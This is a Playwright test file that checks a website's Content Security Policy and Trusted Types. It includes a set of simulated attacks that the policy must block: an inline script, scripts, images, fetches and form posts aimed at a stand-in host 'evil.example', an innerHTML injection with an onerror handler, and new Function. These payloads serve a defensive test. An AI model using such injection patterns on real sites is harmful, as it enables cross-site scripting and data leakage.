import { readFileSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import { followLink } from '../follow-link.ts';
import { openedMail } from './mailto.ts';
import { config, paths } from './site.ts';
import { openLive, takeOver } from './take-over.ts';

// The policy that is sent with every page, by its own words: what it forbids is told by the browser, and nothing that the site does is.

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}

/** Hears every violation from the first byte on, in all documents of the page. */
async function watch(page: Page): Promise<Violation[]> {
  const heard: Violation[] = [];
  await page.exposeFunction('tellViolation', (violation: Violation) => heard.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      const { tellViolation } = window as unknown as { tellViolation(violation: Violation): void };
      tellViolation({ directive: effectiveDirective, blocked: blockedURI, sample });
    });
  });
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedHTML|TrustedScript/i.test(message.text()))
      heard.push({ directive: 'console', blocked: '', sample: message.text() });
  });
  return heard;
}

/** Goes through the page by wheel until its end, so that all of it lives. */
async function readThrough(page: Page): Promise<void> {
  await takeOver(page);
  await expect(async () => {
    await page.mouse.wheel(0, 700);
    expect(await page.evaluate(() => innerHeight + scrollY >= document.documentElement.scrollHeight - 2)).toBe(true);
  }).toPass({ intervals: [100] });
  const field = page.getByRole('textbox').first();
  if (await field.count()) await field.focus();
  await expect(page.locator('[data-start]:not([data-live])')).toHaveCount(0);
}

/** Opens and closes whatever the page opens, and unfolds what it folds. */
async function openEverything(page: Page): Promise<void> {
  for (const button of await page.locator('button[commandfor][command="show-modal"]:visible').all()) {
    await button.click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toHaveCount(0);
  }
  for (const summary of await page.locator('summary:visible').all()) await summary.click();
  for (const button of await page.locator('button[popovertarget]:visible').all()) {
    await button.click();
    await page.keyboard.press('Escape');
  }
}

for (const path of paths) {
  test(`${path} breaks its own policy in nothing, whatever is opened`, async ({ page }) => {
    test.slow();
    const heard = await watch(page);
    await page.goto(path);
    await readThrough(page);
    await openEverything(page);
    expect(heard).toEqual([]);
  });
}

test('a walk through all pages, to an unknown one and back breaks the policy in nothing', async ({ page }) => {
  test.slow();
  const heard = await watch(page);
  await openLive(page, '/');
  for (const path of ['/about', '/training', '/no-such-page', '/', '/about']) {
    await followLink(page, path);
    await expect(page).toHaveURL(path);
    await readThrough(page);
  }
  await page.goBack();
  await page.goBack();
  await expect(page).toHaveURL('/no-such-page');
  expect(await page.evaluate(() => performance.getEntriesByType('navigation').length)).toBe(1);
  expect(heard).toEqual([]);
});

test('a page that cannot be loaded, its retry and a reload break the policy in nothing', async ({ page }) => {
  const heard = await watch(page);
  await openLive(page, '/');
  await page.route('**/training/page.json', (route) => route.abort());
  await followLink(page, '/training');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(config.texts.error.title);
  await page.unroute('**/training/page.json');
  await page.getByRole('main').getByRole('button', { name: config.texts.error.retry }).click();
  await expect(page.locator('section').first()).toBeVisible();
  await page.reload();
  await readThrough(page);
  expect(heard).toEqual([]);
});

test('scheme, carousel, form, mail and toast break the policy in nothing', async ({ page }) => {
  test.slow();
  const heard = await watch(page);
  await openLive(page, '/');
  await page.getByRole('button', { name: config.texts.theme.label }).click();
  await page.getByRole('radio', { name: config.texts.theme.dark }).check();
  await page.keyboard.press('Escape');
  const { next, previous, pause } = config.texts.carousel;
  for (const name of [next, previous, pause]) await page.getByRole('button', { name, exact: true }).click();
  const form = page.getByRole('form');
  for (const field of await form.getByRole('textbox').all())
    await field.fill((await field.getAttribute('type')) === 'email' ? 'ada@example.org' : 'A "new" idea <b>');
  const mail = openedMail(page);
  await form.getByRole('button').last().click();
  await mail;
  await expect(
    page.locator('[data-toast], .mantine-Notification-root, [role=alert], [role=status]').first(),
  ).toBeAttached();
  expect(heard).toEqual([]);
});

test('without script, nothing breaks the policy either', async ({ browser, baseURL }) => {
  const context = await browser.newContext({ javaScriptEnabled: false, ...(baseURL && { baseURL }) });
  const page = await context.newPage();
  const told: string[] = [];
  page.on('console', (message) => told.push(message.text()));
  for (const path of paths) await page.goto(path);
  expect(told.filter((text) => /policy/i.test(text))).toEqual([]);
  await context.close();
});

// The same listener, where it must hear something: otherwise its silence above would mean nothing.
const attacks: Record<string, { directive: string; run: () => unknown }> = {
  'an inline script': {
    // Where a page has a default policy for trusted types, Chromium tells of this one on the console alone.
    directive: 'console',
    run: () => {
      const script = document.createElement('script');
      script.append('window.hacked = true');
      document.body.append(script);
    },
  },
  'a script of another site': {
    directive: 'require-trusted-types-for',
    run: () => {
      document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }));
    },
  },
  'a module of another site': {
    directive: 'script-src-elem',
    run: () => import(String(new URL('https://evil.example/a.js'))),
  },
  'text as HTML': {
    directive: 'require-trusted-types-for',
    run: () => {
      document.body.innerHTML = '<img src="x" onerror="window.hacked = true">';
    },
  },
  'another policy for text as HTML': {
    directive: 'trusted-types',
    run: () => {
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
      ).trustedTypes.createPolicy('mine', {});
    },
  },
  'the site’s own policy a second time': {
    directive: 'trusted-types',
    run: () => {
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
      ).trustedTypes.createPolicy('built-html', {});
    },
  },
  'code as text': { directive: 'require-trusted-types-for', run: () => new Function('window.hacked = true')() },
  'an event handler in an attribute': {
    directive: 'require-trusted-types-for',
    run: () => document.body.setAttribute('onclick', 'window.hacked = true'),
  },
  'a picture of another site': {
    directive: 'img-src',
    run: () => {
      new Image().src = 'https://evil.example/a.png';
    },
  },
  'a request to another site': { directive: 'connect-src', run: () => fetch('https://evil.example/') },
  'a frame': {
    directive: 'frame-src',
    run: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/about' })),
  },
  'another base': {
    directive: 'base-uri',
    run: () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
  },
  'a form that leaves': {
    directive: 'form-action',
    run: () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
      document.body.append(form);
      form.submit();
    },
  },
  'a worker': {
    directive: 'require-trusted-types-for',
    run: () => new Worker('data:text/javascript,'),
  },
};

for (const [name, { directive, run }] of Object.entries(attacks)) {
  test(`${name} is stopped`, async ({ page }) => {
    const heard = await watch(page);
    await openLive(page, '/about');
    // Later, because what a test evaluates at once may evaluate further text.
    await page.evaluate(`setTimeout(async () => { try { await (${run.toString()})() } catch {} })`);
    await expect.poll(() => heard.map((violation) => violation.directive)).toContain(directive);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });
}

test('every answer carries the headers of the site, errors and redirects too', async ({ request }) => {
  const sent = readFileSync('dist/_headers', 'utf8')
    .split('\n\n')[0]
    ?.split('\n')
    .slice(1)
    .map((line) => line.trim().split(': ')) as [string, string][];
  expect(sent.length).toBeGreaterThan(6);
  for (const path of [...paths, '/about/', '/page.json', '/favicon.svg', '/robots.txt', '/images/hero.svg']) {
    const headers = (await request.get(path, { maxRedirects: 0 })).headers();
    for (const [name, value] of sent) expect(headers[name.toLowerCase()], `${name} of ${path}`).toBe(value);
  }
});
